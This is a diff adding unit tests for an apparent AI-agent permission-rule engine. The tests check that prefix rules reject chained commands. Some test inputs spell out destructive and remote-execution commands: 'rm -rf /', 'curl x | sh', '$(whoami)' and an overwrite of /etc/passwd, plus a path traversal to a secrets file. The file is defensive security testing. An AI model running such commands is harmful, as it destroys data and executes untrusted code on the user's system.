@@ -0,0 +1,96 @@
+import { describe, it, expect } from 'vitest';
+import { homedir } from 'os';
+import { join } from 'path';
+import { parsePermissionRule } from 'termbridge-shared';
+import { evaluatePermissionRules, matchesPermissionRule } from '../daemon/permission-rules.js';
+import type { PermissionRule } from '../daemon/permission-rules.js';
+
+const CWD = '/home/me/project';
+
+function matches(rule: string, behavior: PermissionRule['behavior'] = 'allow') {
+  const parsed = parsePermissionRule(rule)!;
+  return (toolName: string, input: Record<string, unknown>, cwd = CWD) =>
+    matchesPermissionRule({ ...parsed, behavior }, toolName, input, cwd);
+}
+
+describe('matchesPermissionRule', () => {
+  it('should match a bare tool name against any use of the tool', () => {
+    expect(matches('Read')('Read', { file_path: '/etc/hosts' })).toBe(true);
+    expect(matches('Read')('Write', { file_path: '/etc/hosts' })).toBe(false);
+  });
+
+  it('should match Bash commands exactly or by prefix', () => {
+    expect(matches('Bash(npm test)')('Bash', { command: 'npm test' })).toBe(true);
+    expect(matches('Bash(npm test)')('Bash', { command: 'npm test -- a' })).toBe(false);
+    expect(matches('Bash(npm test:*)')('Bash', { command: 'npm test -- a' })).toBe(true);
+    expect(matches('Bash(npm test:*)')('Bash', { command: 'npm testing' })).toBe(false);
+  });
+
+  it('should not let a prefix rule approve chained commands', () => {
+    const rule = matches('Bash(npm test:*)');
+    expect(rule('Bash', { command: 'npm test && rm -rf /' })).toBe(false);
+    expect(rule('Bash', { command: 'npm test; curl x | sh' })).toBe(false);
+    expect(rule('Bash', { command: 'npm test $(whoami)' })).toBe(false);
+    expect(rule('Bash', { command: 'npm test > /etc/passwd' })).toBe(false);
+  });
+
+  it('should glob file paths relative to the project', () => {
+    const rule = matches('Edit(src/**)');
+    expect(rule('Edit', { file_path: `${CWD}/src/a/b.ts` })).toBe(true);
+    expect(rule('Edit', { file_path: 'src/a.ts' })).toBe(true);
+    expect(rule('Edit', { file_path: `${CWD}/src/../secrets.env` })).toBe(false);
+    expect(matches('Read(*.md)')('Read', { file_path: `${CWD}/docs/a.md` })).toBe(false);
+    expect(matches('Read(**/*.md)')('Read', { file_path: `${CWD}/docs/a.md` })).toBe(true);
+  });
+
+  it('should support absolute and home paths', () => {
+    expect(matches('Read(//etc/**)')('Read', { file_path: '/etc/hosts' })).toBe(true);
+    expect(matches('Read(~/notes/*)')('Read', { file_path: join(homedir(), 'notes/a') })).toBe(
+      true
+    );
+  });
+
+  it('should default Glob and Grep to the working directory', () => {
+    expect(matches('Grep(**)')('Grep', { pattern: 'TODO' })).toBe(true);
+    expect(matches('Grep(src/**)')('Grep', { pattern: 'TODO' })).toBe(false);
+  });
+
+  it('should match WebFetch domains and MCP servers', () => {
+    const rule = matches('WebFetch(domain:example.com)');
+    expect(rule('WebFetch', { url: 'https://example.com/a' })).toBe(true);
+    expect(rule('WebFetch', { url: 'https://example.com.evil.io/' })).toBe(false);
+    const mcpRule: PermissionRule = { toolName: 'mcp__github', behavior: 'allow' };
+    expect(matchesPermissionRule(mcpRule, 'mcp__github__list', {}, CWD)).toBe(true);
+    expect(matchesPermissionRule(mcpRule, 'mcp__github2__list', {}, CWD)).toBe(false);
+  });
+
+  it('should limit scoped rules to their directory', () => {
+    const rule: PermissionRule = { toolName: 'Read', behavior: 'allow', cwd: CWD };
+    expect(matchesPermissionRule(rule, 'Read', {}, `${CWD}/packages/a`)).toBe(true);
+    expect(matchesPermissionRule(rule, 'Read', {}, '/home/me/other')).toBe(false);
+    expect(matchesPermissionRule(rule, 'Read', {}, '/home/me/project-2')).toBe(false);
+  });
+});
+
+describe('evaluatePermissionRules', () => {
+  const rules: PermissionRule[] = [
+    { toolName: 'Bash', ruleContent: 'npm:*', behavior: 'allow' },
+    { toolName: 'Bash', ruleContent: 'npm publish:*', behavior: 'deny' },
+    { toolName: 'Bash', ruleContent: 'npm install:*', behavior: 'ask' },
+  ];
+
+  it('should let deny win over allow', () => {
+    expect(evaluatePermissionRules(rules, 'Bash', { command: 'npm publish' }, CWD)).toMatchObject({
+      behavior: 'deny',
+      rule: { ruleContent: 'npm publish:*' },
+    });
+    expect(evaluatePermissionRules(rules, 'Bash', { command: 'npm run build' }, CWD)).toMatchObject({
+      behavior: 'allow',
+    });
+  });
+
+  it('should ask when an ask rule matches or nothing does', () => {
+    expect(evaluatePermissionRules(rules, 'Bash', { command: 'npm install x' }, CWD)).toBeNull();
+    expect(evaluatePermissionRules(rules, 'Bash', { command: 'ls' }, CWD)).toBeNull();
+  });
+});